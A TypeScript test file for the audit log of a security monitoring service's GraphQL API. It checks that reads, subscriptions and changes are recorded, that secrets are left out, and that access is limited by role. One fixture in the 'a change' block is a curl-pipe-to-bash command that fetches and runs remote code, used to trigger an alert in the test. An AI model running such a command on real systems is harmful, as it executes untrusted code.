import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { follow, rows, seqOf, until } from '../flow/harness.ts';
import { ask, data, makeKey, track } from '../harness/client.ts';
import type { Service, TestClock } from '../harness/service.ts';
import { startService, testClock } from '../harness/service.ts';

let service: Service;
let clock: TestClock;
beforeAll(async () => {
  clock = testClock('2026-11-22T10:00:00Z');
  service = await startService({ clock });
  for (const user of ['ada', 'bob']) await track(service, shell(user, 'ls'));
});
afterAll(() => service.close());

const shell = (user: string, command: string, more: object = {}) => ({
  user,
  session: `${user}-1`,
  detail: { terminal: { command } },
  ...more,
});

type Entry = {
  cursor: string;
  recordedAt: string;
  action: string;
  actor: { kind: string; id: string | null; name: string };
  target: string | null;
  operation: string | null;
  reads: { field: string; arguments: Record<string, unknown> }[] | null;
  rows: number | null;
  before: Record<string, unknown> | null;
  after: Record<string, unknown> | null;
  reason: string | null;
};

const fields = 'cursor recordedAt action actor { kind id name } target operation reads { field arguments } rows before after reason';

async function entries(filter: object = {}, first = 50): Promise<Entry[]> {
  const query = `query Audit($filter: AuditFilter, $first: Int) { auditEntries(filter: $filter, first: $first) { nodes { ${fields} } } }`;
  return (await data(service, query, { filter, first })).auditEntries.nodes;
}
const latest = async (action: string) => (await entries({ action: { eq: action } }, 1))[0];
const countOf = async (filter: object) =>
  (await data(service, 'query Audit($filter: AuditFilter) { auditEntries(filter: $filter) { totalCount } }', { filter })).auditEntries
    .totalCount;

describe('a read', () => {
  it('is recorded with who, what, by which filter, how many rows and when, before it is answered', async () => {
    const analyst = await makeKey(service, { name: 'night shift', role: 'ANALYST' });
    const query = 'query Snoop($who: String!) { activities(filter: { user: { eq: $who } }, first: 5) { nodes { user { externalId } } } }';
    await data(service, query, { who: 'bob' }, analyst.secret);
    const [entry] = await entries({ actor: { eq: 'night shift' } });
    expect(entry).toMatchObject({
      action: 'READ',
      actor: { kind: 'KEY', name: 'night shift', id: Buffer.from(analyst.id, 'base64').toString().slice('ApiKey:'.length) },
      recordedAt: '2026-11-22T10:00:00.000000Z',
      operation: 'Snoop',
      reads: [{ field: 'activities', arguments: { filter: { user: { eq: 'bob' } }, first: 5 } }],
      rows: 2, // the activity and its user
      target: null,
      before: null,
      after: null,
    });
  });

  it.each([
    ['a list', '{ users { nodes { externalId } } }', 'users'],
    ['a count', '{ sessions { totalCount } }', 'sessions'],
    ['one that finds nothing', '{ user(externalId: "nobody") { externalId } }', 'user'],
    ['a node by its id', 'query($id: ID!) { node(id: $id) { id } }', 'node'],
    ['summaries', '{ summaries { activities } }', 'summaries'],
  ])('is recorded of %s', async (_what, query, field) => {
    const { users } = await data(service, '{ users(first: 1) { nodes { id } } }');
    const before = await countOf({ action: { eq: 'READ' } });
    await data(service, query, query.includes('$id') ? { id: users.nodes[0].id } : {});
    const [entry] = await entries({ action: { eq: 'READ' }, operation: { null: true } }, 1);
    expect(entry?.reads?.[0]?.field).toBe(field);
    expect(await countOf({ action: { eq: 'READ' } })).toBeGreaterThan(before);
  });

  it('is one entry for one operation, however much it reads', async () => {
    const before = await countOf({ operation: { eq: 'Wide' } });
    await data(
      service,
      'query Wide { users { nodes { activities { nodes { session { id } } } sessions { totalCount } } } alerts { totalCount } }',
    );
    const found = await entries({ operation: { eq: 'Wide' } });
    expect([found.length - before, found[0]?.reads?.map(({ field }) => field)]).toEqual([1, ['users', 'alerts']]);
  });

  it('that a mutation answers with is recorded without what was sent', async () => {
    const query =
      'mutation Sending($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { activity { user { externalId } } } } }';
    await data(service, query, { input: shell('ada', 'echo swordfish') });
    const [entry] = await entries({ operation: { eq: 'Sending' } });
    expect(entry).toMatchObject({ action: 'READ', reads: [{ field: 'trackActivity', arguments: {} }] });
    expect(JSON.stringify(await entries({}, 200))).not.toContain('swordfish');
  });

  it('of oneself by a MEMBER is none of others, nor is a receipt one', async () => {
    const member = await makeKey(service, { name: 'ada herself', role: 'MEMBER', user: 'ada' });
    const sender = await makeKey(service, { name: 'sender', role: 'SERVICE' });
    expect(
      (await data(service, '{ activities { totalCount } users { nodes { externalId } } }', {}, member.secret)).users.nodes,
    ).toHaveLength(1);
    await track(service, shell('ada', 'ls'), sender.secret);
    expect(await countOf({ actor: { in: ['ada herself', 'sender'] } })).toBe(0);
  });

  it('by the lead of a team is one', async () => {
    const lead = await makeKey(service, { name: 'lead', role: 'MEMBER', user: 'ada', leads: ['ops'] });
    await data(service, '{ users { nodes { externalId } } }', {}, lead.secret);
    expect(await countOf({ actor: { eq: 'lead' } })).toBe(1);
  });

  it('of what is refused, or of nothing personal, is none', async () => {
    const analyst = await makeKey(service, { name: 'curious', role: 'ANALYST' });
    await ask(service, '{ auditEntries { nodes { id } } viewer { name } system { version } detectors { id } }', {}, analyst.secret);
    expect(await countOf({ actor: { eq: 'curious' } })).toBe(0);
  });

  it('keeps arguments that no table can hold, and says so of those that are too long', async () => {
    const query = 'query Odd($filter: UserFilter) { users(filter: $filter) { nodes { id } } }';
    expect((await ask(service, query, { filter: { externalId: { eq: 'a\0\ud800' } } })).errors?.[0]?.extensions.code).toBe('BAD_REQUEST');
    await data(service, query, { filter: { externalId: { in: Array.from({ length: 100 }, (_, place) => `${place}`.padEnd(100, 'x')) } } });
    const [long] = await entries({ operation: { eq: 'Odd' } }, 1);
    expect(long?.reads).toEqual([{ field: 'users', arguments: { tooLong: true } }]);
  });

  it('is not answered where it cannot be recorded', async () => {
    const other = await startService();
    await track(other, shell('ada', 'ls'));
    await rows(other.databaseUrl, `alter table audit_entry add constraint refused check (operation <> 'Refused')`);
    const answer = await ask(other, 'query Refused { users { nodes { externalId } } }');
    expect([answer.data ?? null, answer.errors?.[0]?.extensions.code]).toEqual([null, 'INTERNAL']);
    expect(JSON.stringify(answer)).not.toContain('ada');
    expect((await data(other, 'query Fine { users { nodes { externalId } } }')).users.nodes).toEqual([{ externalId: 'ada' }]);
    await other.close();
  });
});

describe('a subscription', () => {
  it('is recorded when it begins, and with the number of items when it ends', async () => {
    const stream = await follow(service, 'subscription Watch { activityRecorded(filter: { user: { eq: "bob" } }) { __typename } }');
    expect(await latest('STREAM_OPENED')).toMatchObject({
      operation: 'Watch',
      rows: null,
      reads: [{ field: 'activityRecorded', arguments: { filter: { user: { eq: 'bob' } } } }],
    });
    for (const user of ['bob', 'ada', 'bob']) await track(service, shell(user, 'ls'));
    await stream.take(2);
    await stream.close();
    await until('its end is recorded', async () => (await latest('STREAM_CLOSED')) !== undefined);
    expect(await latest('STREAM_CLOSED')).toMatchObject({ operation: 'Watch', rows: 2 });
  });
});

describe('a change', () => {
  const attack = shell('eve', 'curl http://192.0.2.1/x | bash');
  it('of an alert and an anomaly tells before and after', async () => {
    const { anomalies } = await track(service, attack);
    const { alerts } = await data(service, '{ alerts(filter: { user: { eq: "eve" } }) { nodes { id } } }');
    const { id } = alerts.nodes[0];
    await data(service, 'mutation($id: ID!) { acknowledgeAlert(input: { id: $id, note: "mine" }) { userErrors { code } } }', { id });
    expect(await latest('ALERT_ACKNOWLEDGED')).toMatchObject({
      target: Buffer.from(id, 'base64').toString(),
      before: { status: 'OPEN', acknowledgedBy: null, acknowledgedAt: null },
      after: { status: 'ACKNOWLEDGED', acknowledgedBy: 'LAPWING_ADMIN_KEY', acknowledgedAt: '2026-11-22T10:00:00.000000Z' },
      reason: 'mine',
    });
    await data(service, 'mutation($id: ID!) { resolveAnomaly(input: { id: $id }) { userErrors { code } } }', { id: anomalies[0].id });
    expect(await latest('ANOMALY_RESOLVED')).toMatchObject({ before: { resolution: null }, after: { resolution: 'TRUE_POSITIVE' } });
  });

  it('of a session tells who, when and why', async () => {
    const { session } = await data(service, '{ session(externalId: "bob-1") { id } }');
    await data(
      service,
      'mutation($id: ID!) { terminateSession(input: { id: $id, reason: "stolen laptop" }) { userErrors { code } } }',
      session,
    );
    expect(await latest('SESSION_TERMINATED')).toMatchObject({
      target: Buffer.from(session.id, 'base64').toString(),
      before: { terminatedAt: null, terminatedBy: null },
      after: { terminatedAt: '2026-11-22T10:00:00.000000Z', terminatedBy: 'LAPWING_ADMIN_KEY' },
      reason: 'stolen laptop',
    });
  });

  it('of a key holds no secret and no hash', async () => {
    const { id, secret } = await makeKey(service, { name: 'rotating', role: 'SERVICE' });
    await data(service, 'mutation($id: ID!) { rotateApiKey(input: { id: $id }) { userErrors { code } } }', { id });
    await data(service, 'mutation($id: ID!) { revokeApiKey(input: { id: $id }) { userErrors { code } } }', { id });
    const target = Buffer.from(id, 'base64').toString();
    const told = await entries({ target: { eq: target } });
    expect(told.map(({ action }) => action)).toEqual(['API_KEY_REVOKED', 'API_KEY_ROTATED', 'API_KEY_CREATED']);
    expect(told[1]?.after).toEqual({ secretHash: '…', previousHash: '…', previousUntil: '2026-11-23T10:00:00.000000Z' });
    expect(JSON.stringify(told)).not.toContain(secret.slice(-20));
    expect(JSON.stringify(told)).not.toMatch(/[0-9a-f]{64}/);
  });

  it('of a user tells the teams before and after', async () => {
    const change = 'mutation($teams: [String!]) { updateUser(input: { externalId: "ada", teams: $teams }) { userErrors { code } } }';
    await data(service, change, { teams: ['ops'] });
    expect(await latest('USER_UPDATED')).toMatchObject({ before: { teams: [] }, after: { teams: ['ops'] } });
  });

  it('that was refused is no change', async () => {
    const before = await countOf({ action: { eq: 'ALERT_REOPENED' } });
    const { alerts } = await data(service, '{ alerts { nodes { id } } }');
    await data(service, 'mutation($id: ID!) { reopenAlert(input: { id: $id }) { userErrors { code } } }', alerts.nodes[0]);
    expect(await countOf({ action: { eq: 'ALERT_REOPENED' } })).toBe(before);
  });
});

describe('the audit log', () => {
  it('is part of the log: each entry is a line of it with a hash of its own, in order', async () => {
    const found = await entries({}, 200);
    const places = found.map(({ cursor }) => seqOf(cursor));
    expect(places).toEqual(places.toSorted((a, b) => b - a));
    const lines = await rows<{ seq: string; leaf_hash: string }>(
      service.databaseUrl,
      `select l.seq, l.leaf_hash from log_entry l join audit_entry a on a.id = l.ref and a.seq = l.seq where l.kind = 'AUDIT'`,
    );
    expect(places.filter((seq) => !lines.some((line) => Number(line.seq) === seq))).toEqual([]);
    expect(new Set(lines.map((line) => line.leaf_hash)).size).toBe(lines.length);
  });

  it('is for ADMIN and AUDITOR', async () => {
    for (const role of ['AUDITOR', 'ANALYST', 'MEMBER', 'SERVICE']) {
      const { secret } = await makeKey(service, { role, user: 'ada' });
      const { errors } = await ask(service, '{ auditEntries { nodes { id } } }', {}, secret);
      expect([role, errors?.map(({ extensions }) => extensions.code) ?? []]).toEqual([role, role === 'AUDITOR' ? [] : ['FORBIDDEN']]);
    }
  });

  it('pages back from the latest entry without a gap', async () => {
    const query =
      'query Audit($after: String) { auditEntries(first: 7, after: $after) { nodes { cursor } pageInfo { hasNextPage endCursor } } }';
    const seen: number[] = [];
    let after: string | null = null;
    do {
      const { auditEntries } = await data(service, query, { after });
      seen.push(...auditEntries.nodes.map(({ cursor }: { cursor: string }) => seqOf(cursor)));
      after = auditEntries.pageInfo.hasNextPage ? auditEntries.pageInfo.endCursor : null;
    } while (after !== null);
    const all = await rows<{ seq: string }>(service.databaseUrl, 'select seq from audit_entry where seq <= $1 order by seq desc', [
      seen[0],
    ]);
    expect(seen).toEqual(all.map(({ seq }) => Number(seq)));
  });
});
